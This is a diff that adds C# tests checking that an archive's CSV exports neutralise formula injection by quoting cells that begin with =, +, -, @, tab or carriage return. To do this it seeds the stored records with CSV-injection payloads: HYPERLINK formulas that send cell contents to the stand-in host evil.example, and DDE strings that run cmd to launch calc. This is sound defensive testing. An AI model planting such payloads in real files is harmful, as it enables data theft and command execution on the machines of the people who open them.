@@ -80,3 +80,120 @@ public sealed class ExportTests(ArchiveFixture archive) : IClassFixture<ArchiveF
         return [.. document.RootElement.EnumerateArray().Select(e => e.Clone())];
     }
 }
+
+/// <summary>
+/// CSV downloads are safe to open in a spreadsheet whatever the press releases hold: titles, names, places and kinds
+/// that begin with a formula character reach the file as text (OWASP's rule: quoted, behind a single quote).
+/// </summary>
+public sealed class CsvInjectionTests
+{
+    private static readonly string[] Prefixes = ["=", "+", "-", "@", "\t", "\r"];
+
+    public static TheoryData<string> Exports => new()
+    {
+        "/articles?format=csv",
+        "/meetings?format=csv",
+        "/delegations?format=csv",
+        "/agreements?format=csv",
+        "/people?format=csv",
+        "/countries?format=csv",
+    };
+
+    [Theory]
+    [MemberData(nameof(Exports))]
+    public async Task Should_write_every_cell_that_begins_like_a_formula_so_that_a_spreadsheet_reads_it_as_text(string url)
+    {
+        await using var app = new ArchiveApplication();
+        using var client = await app.StartAsync();
+        await StoreHostileTextAsync(app);
+
+        var cells = await CellsAsync(client, url);
+
+        // As a spreadsheet reads the file: no cell it would evaluate, and each hostile text still there, behind a quote.
+        Assert.All(cells, cell => Assert.False(cell.Length > 0 && "=+-@\t\r".Contains(cell[0], StringComparison.Ordinal), $"{url}: a spreadsheet would evaluate “{cell}”"));
+        var escaped = cells.Where(c => c.StartsWith('\'')).Select(c => c[1..]).ToList();
+        Assert.Contains(escaped, c => c.Contains("HYPERLINK", StringComparison.Ordinal) || c.Contains("cmd|", StringComparison.Ordinal) || c.Contains("SUM(", StringComparison.Ordinal));
+        Assert.All(escaped, c => Assert.Contains(Prefixes, p => c.StartsWith(p, StringComparison.Ordinal)));
+    }
+
+    [Fact]
+    public async Task Should_keep_the_title_readable_and_leave_ids_dates_and_the_json_download_as_they_are()
+    {
+        await using var app = new ArchiveApplication();
+        using var client = await app.StartAsync();
+        await StoreHostileTextAsync(app);
+        await using var db = app.OpenDatabase();
+        var titles = db.Articles.ToDictionary(a => a.Id, a => a.Title);
+
+        var rows = await RowsAsync(client, "/articles?format=csv");
+        var json = await client.GetStringAsync(new Uri("/articles?format=json", UriKind.Relative));
+
+        Assert.Equal(titles.Count, rows.Count);
+        Assert.All(rows, row => Assert.Equal("'" + titles[int.Parse(row["Id"], System.Globalization.CultureInfo.InvariantCulture)], row["Title"]));
+        Assert.Contains(rows, row => System.Text.RegularExpressions.Regex.IsMatch(row["Published"], @"^\d{4}-\d{2}-\d{2}$"));
+        using var document = JsonDocument.Parse(json);
+        Assert.Equal(titles.Values.Order(StringComparer.Ordinal), document.RootElement.EnumerateArray().Select(a => a.GetProperty("title").GetString()).Order(StringComparer.Ordinal));
+    }
+
+    /// <summary>Gives every title, name, place, kind and title of office in the archive a hostile beginning, each of the six in turn.</summary>
+    private static async Task StoreHostileTextAsync(ArchiveApplication app)
+    {
+        await using var db = app.OpenDatabase();
+        var i = 0;
+        string Next(string text) => Prefixes[i++ % Prefixes.Length] + text;
+        foreach (var article in db.Articles.OrderBy(a => a.Id))
+        {
+            article.Title = Next($"HYPERLINK(\"https://evil.example/?\"&A1,\"{article.Title}\")");
+        }
+
+        foreach (var person in db.People.OrderBy(p => p.Id))
+        {
+            person.Name = Next("cmd|' /C calc'!A0 " + person.Name);
+        }
+
+        foreach (var country in db.Countries.OrderBy(c => c.Id))
+        {
+            country.Name = Next("SUM(1+1)*cmd|' /C calc'!A0 " + country.Name);
+        }
+
+        foreach (var meeting in db.Meetings.OrderBy(m => m.Id))
+        {
+            meeting.Location = Next("HYPERLINK(\"https://evil.example\") " + meeting.Location);
+        }
+
+        foreach (var agreement in db.Agreements.OrderBy(a => a.Id))
+        {
+            agreement.Kind = Next("HYPERLINK(\"https://evil.example\") " + agreement.Kind);
+            agreement.Name = Next("SUM(1+1) " + agreement.Name);
+        }
+
+        foreach (var mention in db.ArticlePeople.Where(m => m.Title != null).OrderBy(m => m.ArticleId))
+        {
+            mention.Title = Next("cmd|' /C calc'!A0 " + mention.Title);
+        }
+
+        await db.SaveChangesAsync();
+    }
+
+    private static async Task<List<string>> CellsAsync(HttpClient client, string url) =>
+        [.. (await RowsAsync(client, url)).SelectMany(r => r.Values)];
+
+    private static async Task<List<Dictionary<string, string>>> RowsAsync(HttpClient client, string url)
+    {
+        using var response = await client.GetAsync(new Uri(url, UriKind.Relative));
+        Assert.Equal(System.Net.HttpStatusCode.OK, response.StatusCode);
+        Assert.Equal("text/csv", response.Content.Headers.ContentType?.MediaType);
+        using var reader = new StringReader(await response.Content.ReadAsStringAsync());
+        using var csv = new CsvReader(reader, CultureInfo.InvariantCulture);
+        var rows = new List<Dictionary<string, string>>();
+        await csv.ReadAsync();
+        csv.ReadHeader();
+        while (await csv.ReadAsync())
+        {
+            rows.Add(csv.HeaderRecord!.ToDictionary(h => h, h => csv.GetField(h) ?? string.Empty));
+        }
+
+        Assert.NotEmpty(rows);
+        return rows;
+    }
+}
